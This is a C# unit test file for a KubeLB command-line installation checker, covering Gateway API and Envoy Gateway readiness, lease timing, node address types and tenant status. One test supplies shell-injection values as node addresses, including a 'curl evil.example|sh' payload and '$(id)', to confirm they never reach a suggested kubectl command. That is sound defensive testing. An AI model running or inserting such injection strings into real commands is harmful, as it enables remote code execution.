using k8s.Models;
using KubeLB.Api;
using KubeLB.Api.GatewayApi;
using KubeLB.Api.V1Alpha1;
using KubeLB.Inspection.Checks;
using KubeLB.Inspection.Overview;

namespace KubeLB.Cli.Tests;

public class InstallationCheckTests
{
    private static readonly DateTimeOffset Now = new(2026, 11, 30, 12, 0, 0, TimeSpan.Zero);

    [Fact]
    public void Empty_management_cluster_fails_with_a_hint_for_each_missing_part()
    {
        var results = Run(new FakeObjects(), isBefore: true);
        results.Where(r => r.State == CheckState.Failed).Should().OnlyContain(r => r.Reason != null && r.Hint != null);
        results
            .Select(r => $"{r.State} {r.Name}")
            .Should()
            .Equal(
                "Failed Gateway API is installed",
                "Failed Envoy Gateway's definitions are installed",
                "Failed Envoy Gateway runs",
                "Failed GatewayClass eg is accepted"
            );
    }

    [Fact]
    public void Prepared_management_cluster_passes()
    {
        var results = Run(Prepared(), isBefore: true);
        results.Should().OnlyContain(r => r.State == CheckState.Ok);
        results[0].Detail.Should().Be("v1.6.1, experimental channel");
    }

    [Fact]
    public void Definitions_of_different_versions_are_a_warning()
    {
        var objects = Prepared();
        objects.Get<V1CustomResourceDefinition>("", "gateways.gateway.networking.k8s.io").Value!.Metadata.Annotations[
            "gateway.networking.k8s.io/bundle-version"
        ] = "v1.2.0";
        Run(objects, isBefore: true)[0].State.Should().Be(CheckState.Warning);
    }

    [Fact]
    public void What_may_not_be_read_is_not_checked_and_does_not_fail()
    {
        var objects = Prepared();
        objects.Forbidden.Add(typeof(V1CustomResourceDefinition));
        var result = Run(objects, isBefore: true)[0];
        (result.State, result.Reason).Should().Be((CheckState.NotChecked, "no permission to get V1CustomResourceDefinition."));
    }

    [Theory]
    [InlineData(-5, CheckState.Ok)]
    [InlineData(-120, CheckState.Failed)]
    [InlineData(90, CheckState.Warning)]
    public void Lease_tells_whether_a_manager_leads_and_the_clocks_agree(int seconds, CheckState expected)
    {
        var objects = Prepared();
        objects.Add(
            new V1Lease
            {
                Metadata = new V1ObjectMeta { Name = "kubelb-manager", NamespaceProperty = "kubelb" },
                Spec = new V1LeaseSpec
                {
                    HolderIdentity = "pod-1_x",
                    RenewTime = Now.AddSeconds(seconds).UtcDateTime,
                    LeaseDurationSeconds = 15,
                },
            }
        );
        Run(objects, isBefore: false)
            .Single(r => r.Name.StartsWith("A manager leads", StringComparison.Ordinal))
            .State.Should()
            .Be(expected);
    }

    [Fact]
    public void Nodes_without_an_address_of_the_type_name_those_that_they_have()
    {
        var tenant = new FakeObjects(
            new V1Node
            {
                Metadata = new V1ObjectMeta { Name = "n" },
                Status = new V1NodeStatus { Addresses = [new V1NodeAddress { Type = "InternalIP", Address = "10.0.0.1" }] },
            }
        );
        var settings = new CheckSettings { HasTenant = true, IsBeforeInstallation = true };
        var result = new InstallationCheck(tenant, new FakeObjects(), settings, Now).Run()[^1];
        (result.State, result.Reason).Should().Be((CheckState.Failed, "The nodes have only: InternalIP."));
        result.Hint.Should().Contain("--node-address-type");
    }

    [Theory]
    [InlineData("10.0.0.1", "http://10.0.0.1:NODE_PORT/")]
    [InlineData("x/;curl evil.example|sh;#", "http://NODE_ADDRESS:NODE_PORT/")]
    [InlineData("$(id)", "http://NODE_ADDRESS:NODE_PORT/")]
    public void Command_of_a_hint_contains_no_text_of_a_tenant_that_a_shell_runs(string address, string expected)
    {
        var tenant = new FakeObjects(
            new V1Node
            {
                Metadata = new V1ObjectMeta { Name = "n" },
                Status = new V1NodeStatus { Addresses = [new V1NodeAddress { Type = "Hostname", Address = address }] },
            },
            FakeObjects.Ccm("--enable-gateway-api --node-address-type=Hostname", ready: 1)
        );
        var settings = new CheckSettings { HasTenant = true };
        new InstallationCheck(tenant, new FakeObjects(), settings, Now)
            .Run()
            .Should()
            .ContainSingle(r => r.Hint != null && r.Hint.Contains("kubectl run", StringComparison.Ordinal))
            .Which.Hint.Should()
            .EndWith(expected);
    }

    [Fact]
    public void Management_cluster_in_place_of_the_tenants_is_reported()
    {
        const string Statement = "The cluster is a tenant's";
        IReadOnlyList<CheckResult> Of(FakeObjects cluster, bool hasManagement) =>
            new InstallationCheck(
                cluster,
                new FakeObjects(),
                new CheckSettings { HasTenant = true, HasManagement = hasManagement },
                Now
            ).Run();

        var management = new FakeObjects(Definition("tenants.kubelb.k8c.io"));
        var warning = Of(management, hasManagement: false).Should().ContainSingle(r => r.Name == Statement).Subject;
        warning.State.Should().Be(CheckState.Warning);
        warning.Hint.Should().Contain("--management-kubeconfig");
        Of(new FakeObjects(), hasManagement: false).Should().NotContain(r => r.Name == Statement);
        Of(management, hasManagement: true).Should().NotContain(r => r.Name == Statement);
    }

    [Fact]
    public void Nodes_are_checked_with_the_flags_of_the_CCM()
    {
        var tenant = new FakeObjects(
            new V1Node
            {
                Metadata = new V1ObjectMeta { Name = "n" },
                Status = new V1NodeStatus { Addresses = [new V1NodeAddress { Type = "InternalIP", Address = "10.0.0.1" }] },
            },
            FakeObjects.Ccm("--enable-gateway-api --node-address-type=InternalIP", ready: 1)
        );

        var results = Results(null);
        results.Single(r => r.Name == "Nodes have an address of type InternalIP").State.Should().Be(CheckState.Ok);
        results.Single(r => r.Name == "The flags of the CCM are known").Detail.Should().Be("--node-address-type=InternalIP");
        results
            .Single(r => r.Name.StartsWith("The node ports", StringComparison.Ordinal))
            .Hint.Should()
            .EndWith("http://10.0.0.1:NODE_PORT/");
        Results("ExternalIP").Single(r => r.Name == "Nodes have an address of type ExternalIP").State.Should().Be(CheckState.Failed);

        IReadOnlyList<CheckResult> Results(string? type) =>
            new InstallationCheck(tenant, new FakeObjects(), new CheckSettings { HasTenant = true, NodeAddressType = type }, Now).Run();
    }

    [Fact]
    public void Status_counts_routes_and_reports_skew_of_clocks_and_versions()
    {
        var management = new FakeObjects(
            new Config
            {
                Metadata = new V1ObjectMeta { Name = "default", NamespaceProperty = "kubelb" },
                Status = new ConfigStatus { Version = new ManagerVersion { GitVersion = "v0.2.0" } },
            },
            new Tenant
            {
                Metadata = new V1ObjectMeta { Name = "t1" },
                Status = new TenantStatus { Phase = "Ready" },
            },
            new Addresses
            {
                Metadata = new V1ObjectMeta
                {
                    Name = "default",
                    NamespaceProperty = "tenant-t1",
                    Annotations = new Dictionary<string, string>
                    {
                        [Annotations.CcmVersion] = "v0.1.0",
                        [Annotations.LastSeen] = "2026-11-30T12:05:00Z",
                    },
                },
            },
            Route("a", "True"),
            Route("b", "False"),
            Route("c", "Unknown")
        );
        var status = InstallationStatus.Read(management, "kubelb", Now);
        var tenant = status.Tenants.Should().ContainSingle().Subject;
        tenant.Routes.Should().Be(new RouteCounts(3, 1, 1, 1));
        tenant.Problems.Select(p => p.Reason).Should().Equal("ClockSkew", "VersionSkew");
        status.IsHealthy.Should().BeFalse();
    }

    private static Route Route(string name, string accepted) =>
        new()
        {
            Metadata = new V1ObjectMeta { Name = name, NamespaceProperty = "tenant-t1" },
            Status = new RouteStatus { Conditions = [new Condition { Type = "Accepted", Status = accepted }] },
        };

    private static IReadOnlyList<CheckResult> Run(FakeObjects management, bool isBefore) =>
        new InstallationCheck(
            new FakeObjects(),
            management,
            new CheckSettings { HasManagement = true, IsBeforeInstallation = isBefore },
            Now
        ).Run();

    private static FakeObjects Prepared()
    {
        var objects = new FakeObjects(
            new V1Deployment
            {
                Metadata = new V1ObjectMeta { Name = "envoy-gateway", NamespaceProperty = "envoy-gateway-system" },
                Spec = new V1DeploymentSpec { Replicas = 1 },
                Status = new V1DeploymentStatus { AvailableReplicas = 1 },
            },
            new GatewayClass
            {
                Metadata = new V1ObjectMeta { Name = "eg" },
                Status = new GatewayClassStatus { Conditions = [new Condition { Type = "Accepted", Status = "True" }] },
            },
            Definition("backendtrafficpolicies.gateway.envoyproxy.io")
        );
        foreach (var kind in new[] { "gatewayclasses", "gateways", "httproutes", "grpcroutes", "referencegrants" })
        {
            objects.Add(Definition($"{kind}.gateway.networking.k8s.io"));
        }

        return objects;
    }

    private static V1CustomResourceDefinition Definition(string name) =>
        new()
        {
            Metadata = new V1ObjectMeta
            {
                Name = name,
                Annotations = new Dictionary<string, string>
                {
                    ["gateway.networking.k8s.io/bundle-version"] = "v1.6.1",
                    ["gateway.networking.k8s.io/channel"] = "experimental",
                },
            },
        };
}
